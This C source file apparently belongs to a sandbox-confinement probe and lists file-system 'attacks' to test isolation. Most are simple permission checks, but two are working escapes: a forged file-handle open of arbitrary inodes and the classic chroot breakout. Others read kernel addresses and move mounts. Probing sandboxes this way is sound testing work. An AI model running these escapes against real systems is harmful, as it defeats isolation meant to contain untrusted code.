/* SPDX-License-Identifier: BSD-2-Clause */
/* files.c - reaching files: kernel files, device nodes, file handles, mounts,
 * descriptors that were left open.
 */
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "probe.h"

/* open-write PATH: opened for writing, nothing written. */
static int
open_write(char **argv)
{
	int fd = open(argv[0], O_WRONLY | O_CLOEXEC);

	/* A running program is busy, but permission was given. */
	return fd < 0 && errno == ETXTBSY ? 0 : outcome(fd);
}

/* touch PATH: change its times, which a running program allows too. */
static int
touch(char **argv)
{
	return outcome(utimensat(AT_FDCWD, argv[0], NULL, 0));
}

/* write PATH TEXT */
static int
write_text(char **argv)
{
	int fd = open(argv[0], O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return -errno;
	return outcome(write(fd, argv[1], strlen(argv[1])));
}

/* read PATH: at least one byte. ENODATA when it is empty. */
static int
read_some(char **argv)
{
	char c;
	int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -errno;
	n = read(fd, &c, 1);
	return n > 0 ? 0 : n == 0 ? -ENODATA : -errno;
}

/* list PATH: a directory with at least one entry. */
static int
list(char **argv)
{
	DIR *d = opendir(argv[0]);
	struct dirent *e;

	if (d == NULL)
		return -errno;
	while ((e = readdir(d)) != NULL)
		if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
			return 0;
	return -ENODATA;
}

/* addresses: kallsyms tells where the kernel is. */
static int
addresses(char **argv)
{
	FILE *f = fopen("/proc/kallsyms", "re");
	unsigned long long at;

	(void)argv;
	if (f == NULL)
		return -errno;
	while (fscanf(f, "%llx %*[^\n]", &at) == 1)
		if (at != 0)
			return 0;
	return -ENODATA;
}

/* mknod PATH c|b MAJOR MINOR */
static int
make_node(char **argv)
{
	mode_t type = argv[1][0] == 'c' ? S_IFCHR : S_IFBLK;
	dev_t dev = makedev((unsigned)atoi(argv[2]), (unsigned)atoi(argv[3]));

	return outcome(mknod(argv[0], type | 0600, dev));
}

/* handle PATH: open PATH again by its file handle. */
static int
handle(char **argv)
{
	union {
		struct file_handle h;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u = { .h.handle_bytes = MAX_HANDLE_SZ };
	int mount_id, dir = open(argv[0], O_RDONLY | O_CLOEXEC);

	if (dir < 0)
		return UNABLE;
	if (name_to_handle_at(dir, "", &u.h, &mount_id, AT_EMPTY_PATH) < 0)
		return UNABLE;
	return outcome(open_by_handle_at(dir, &u.h, O_RDONLY));
}

/* handle-ino PATH INODE: open any inode of PATH's file system by a made-up
 * handle (FILEID_INO32_GEN with generation 0). */
static int
handle_ino(char **argv)
{
	struct {
		struct file_handle h;
		unsigned ino, gen;
	} u = { .h = { .handle_bytes = 8, .handle_type = 1 },
		.ino = (unsigned)atoi(argv[1]) };
	int dir = open(argv[0], O_RDONLY | O_CLOEXEC);

	if (dir < 0)
		return UNABLE;
	return outcome(open_by_handle_at(dir, &u.h, O_RDONLY));
}

static int
umount_path(char **argv)
{
	return outcome(umount2(argv[0], MNT_DETACH));
}

static int
remount_rw(char **argv)
{
	return outcome(mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL));
}

/* mount TYPE PATH [OPTIONS] */
static int
mount_type(char **argv)
{
	return outcome(mount("none", argv[1], argv[0], 0, argv[2]));
}

/* mount-move FROM TO: uncover what lies below FROM. */
static int
mount_move(char **argv)
{
	return outcome(mount(argv[0], argv[1], NULL, MS_MOVE, NULL));
}

static int
bind(char **argv)
{
	return outcome(mount(argv[0], argv[1], NULL, MS_BIND, NULL));
}

/* fds: a descriptor above 2 is open that this program did not open. */
static int
open_fds(char **argv)
{
	(void)argv;
	for (int fd = 3; fd < 4096; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			return 0;
	return -EBADF;
}

/* fd-outside FD PATH: read a file by a directory descriptor left open. */
static int
fd_outside(char **argv)
{
	return outcome(openat(atoi(argv[0]), argv[1], O_RDONLY | O_CLOEXEC));
}

/* be-root: this program's file was setuid, and that counted. */
static int
be_root(char **argv)
{
	(void)argv;
	return geteuid() == 0 ? 0 : -EPERM;
}

/* hardlink FROM TO */
static int
hardlink(char **argv)
{
	return outcome(link(argv[0], argv[1]));
}

/* chroot-escape DIR: the classic: a descriptor of "/" kept over a chroot into
 * DIR, then up and up. Success is a root that is not the one we started in. */
static int
chroot_escape(char **argv)
{
	struct stat before, after;
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (root < 0 || stat("/", &before) < 0)
		return UNABLE;
	if (chroot(argv[0]) < 0 || fchdir(root) < 0)
		return -errno;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return -errno;
	if (chroot(".") < 0 || stat("/", &after) < 0)
		return -errno;
	if (before.st_ino != after.st_ino || before.st_dev != after.st_dev)
		return 0;
	return -EXDEV;
}

static const struct attack attacks[] = {
	{ "open-write", "PATH", 1, 1, open_write },
	{ "touch", "PATH", 1, 1, touch },
	{ "write", "PATH TEXT", 2, 2, write_text },
	{ "read", "PATH", 1, 1, read_some },
	{ "list", "PATH", 1, 1, list },
	{ "addresses", "", 0, 0, addresses },
	{ "mknod", "PATH c|b MAJOR MINOR", 4, 4, make_node },
	{ "handle", "PATH", 1, 1, handle },
	{ "handle-ino", "PATH INODE", 2, 2, handle_ino },
	{ "umount", "PATH", 1, 1, umount_path },
	{ "remount-rw", "PATH", 1, 1, remount_rw },
	{ "mount", "TYPE PATH [OPTIONS]", 2, 3, mount_type },
	{ "mount-move", "FROM TO", 2, 2, mount_move },
	{ "bind", "FROM TO", 2, 2, bind },
	{ "fds", "", 0, 0, open_fds },
	{ "fd-outside", "FD PATH", 2, 2, fd_outside },
	{ "be-root", "", 0, 0, be_root },
	{ "hardlink", "FROM TO", 2, 2, hardlink },
	{ "chroot-escape", "DIR", 1, 1, chroot_escape },
};
const struct attack_list file_attacks = { attacks, LEN(attacks) };
